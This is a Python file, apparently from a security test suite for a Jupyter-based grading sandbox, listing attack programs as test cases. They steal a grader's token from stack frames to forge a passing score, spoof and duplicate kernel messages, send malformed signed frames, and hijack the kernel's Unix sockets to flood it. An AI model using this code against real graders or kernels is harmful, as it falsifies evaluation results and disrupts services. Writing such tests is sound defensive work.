# ruff: noqa: E501  # programs in texts
"""Messages of Jupyter, signed with the connection key, and bytes that are none."""

from attacks.hostile.attack import HONEST, Family

family = Family("forged messages")

SEND = """
import json, os, sys, threading, time
shell = get_ipython()
kernel, session = shell.kernel, shell.kernel.session
def tell(kind, content, parent=None, **more):
    session.send(kernel.iopub_socket, kind, content, parent=parent or shell.parent_header, ident=b"x", **more)
def frames_up():
    frame = sys._getframe(1)
    while frame:
        yield frame
        frame = frame.f_back
"""
STEALS = """
def rnn_forward(x, a0, parameters):
    for frame in frames_up():
        if "token" in frame.f_locals and "mime" in frame.f_locals:
            forge(frame.f_locals["token"], frame.f_locals["mime"])
            break
    return 1, 2, 3
"""
FORGE = """
def forge(token, mime):
    reply = [{"value": {"tuple": [None, None, None]}, "passed": True, "points": 6, "status": "holds"}]
    body = {"token": token, "part": 0, "of": 1, "text": json.dumps(reply)}
    content = {"data": {mime: body}, "metadata": {}, "transient": {}}
"""

family.runs(
    "a reply with the stolen token, early",
    SEND + FORGE + '    tell("display_data", content); tell("status", {"execution_state": "idle"})\n',
    answer=STEALS,
)
family.runs(
    "a reply with the stolen token, late and for ever",
    SEND
    + FORGE
    + """
    parent = shell.parent_header
    def later():
        for _ in range(300):
            time.sleep(0.01)
            tell("display_data", content, parent)
            tell("status", {"execution_state": "idle"}, parent)
    threading.Thread(target=later, daemon=True).start()
""",
    answer=STEALS,
)
family.runs(
    "every message is sent twice",
    SEND
    + """
right = type(session).send
def twice(self, stream, *args, **kwargs):
    right(self, stream, *args, **kwargs)
    return right(self, stream, *args, **kwargs)
type(session).send = twice
""",
    # The same reply twice is the same reply; but a request is answered twice, and nothing waits for the second.
)
family.runs(
    "the end of a cell is told before it begins",
    SEND
    + """
def hurry():
    while True:
        parent = shell.parent_header
        tell("status", {"execution_state": "idle"}, parent)
        time.sleep(0.002)
threading.Thread(target=hurry, daemon=True).start()
""",
)
family.runs(
    "execute_reply is forged on the shell channel",
    SEND
    + """
right = kernel.shell_stream.send_multipart if hasattr(kernel, "shell_stream") else None
def answer_at_once(stream, ident, parent):
    return {"status": "ok", "execution_count": 7, "user_expressions": {}, "payload": []}
for handler in list(kernel.shell_handlers):
    def handle(stream, ident, parent, handler=handler):
        session.send(stream, handler.replace("request", "reply"), answer_at_once(stream, ident, parent), parent, ident)
    kernel.shell_handlers[handler] = handle
""",
    points=(0, 0),
    in_jail=HONEST,
)
family.runs(
    "the kernel says that it is dead, restarting, and asks for input",
    SEND
    + """
for state in ("dead", "restarting", "terminated", "starting", None, 5):
    tell("status", {"execution_state": state})
tell("input_request", {"prompt": "password", "password": True})
tell("shutdown_reply", {"restart": True}); tell("comm_open", {"comm_id": "1", "target_name": "x", "data": {}})
tell("kernel_info_reply", {}); tell("execute_reply", {"status": "ok"}); tell("iopub_welcome", {})
""",
)
family.runs(
    "content and headers that are no such thing",
    SEND
    + """
for content in ({"data": 5}, {"data": {"text/plain": {"a": [1]}}}, {"name": 7, "text": ["x", 1]}, {"traceback": "x"}):
    for kind in ("display_data", "stream", "error", "execute_result", "update_display_data", "clear_output", "", "x" * 999):
        tell(kind, content)
key, sign = shell.parent_header["header"]["msg_id"].encode(), session.sign
for header in (b"5", b"null", b"{}", b"[" * 50000, b'{"msg_type": null}', b'{"msg_type": "stream", "msg_id": 1e999, "date": "x"}'):
    body = [header, json.dumps({"msg_id": key.decode()}).encode(), b"{}", b"NaN"]
    kernel.iopub_socket.send_multipart([b"x", b"<IDS|MSG>", sign(body), *body])
    kernel.iopub_socket.send_multipart([b"x", b"<IDS|MSG>", b"wrong", *body])
    kernel.iopub_socket.send_multipart([header] * 50)
""",
)
family.runs(
    "a reply in a hundred thousand parts",
    SEND
    + """
def forge(token, mime):
    for part in range(100_000):
        body = {"token": token, "part": part, "of": 10**9, "text": "9"}
        tell("display_data", {"data": {mime: body}, "metadata": {}})
""",
    answer=STEALS,
)

# A peer of its own in the place of the kernel's sockets. It speaks just enough ZMTP to be listened to.
RAW = """
import os, socket, struct, threading, time
def sockets_at(paths):
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            copy = socket.socket(fileno=os.dup(fd))
            if copy.family == socket.AF_UNIX and copy.getsockname() in paths \\
                    and not copy.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                yield copy
        except OSError:
            pass
def serve(listener, kind, flood):
    def talk(peer):
        peer.sendall(b"\\xff" + bytes(8) + b"\\x7f\\x03\\x00NULL" + bytes(16) + b"\\x00" + bytes(31))
        peer.recv(64, socket.MSG_WAITALL)
        ready = b"\\x05READY\\x0bSocket-Type" + struct.pack(">I", len(kind)) + kind
        peer.sendall(b"\\x04" + bytes([len(ready)]) + ready)
        try: flood(peer)
        except OSError: pass
    while True:
        peer, _ = listener.accept()
        threading.Thread(target=talk, args=(peer,), daemon=True).start()
def take_over(flood, *kinds):
    paths = {"/run/jupyter/k-" + {"ROUTER": "1", "PUB": "2"}[kind]: kind.encode() for kind in kinds}
    old = list(sockets_at(paths))
    for path, kind in paths.items():
        os.unlink(path)
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(path)
        listener.listen(8)
        threading.Thread(target=serve, args=(listener, kind, flood), daemon=True).start()
    for peer in old:  # whoever was connected is hung up on, and comes to the new door
        try: peer.shutdown(socket.SHUT_RDWR)
        except OSError: pass
    time.sleep(0.3)
"""
NO_IPC = "stock's kernels listen on TCP; the frames of one message have no bound there either"
family.runs(
    "one message of endless large frames from a raw peer",
    RAW
    + """
def flood(peer):
    frame = b"\\x03" + struct.pack(">Q", 2**20) + bytes(2**20)
    for _ in range(3000):
        peer.sendall(frame)
take_over(flood, "PUB")
""",
    off_stock=NO_IPC,
)
family.runs(
    "one message of endless tiny frames from a raw peer",
    RAW
    + """
def flood(peer):
    frames = b"\\x01\\x00" * 2**19
    for _ in range(500):
        peer.sendall(frames)
take_over(flood, "PUB")
""",
    off_stock=NO_IPC,
)
family.runs(
    "frames that announce more than there is",
    RAW
    + """
def flood(peer):
    peer.sendall(b"\\x02" + struct.pack(">Q", 2**63 - 1) + b"x")
    time.sleep(30)
take_over(flood, "ROUTER", "PUB")
""",
    off_stock=NO_IPC,
)
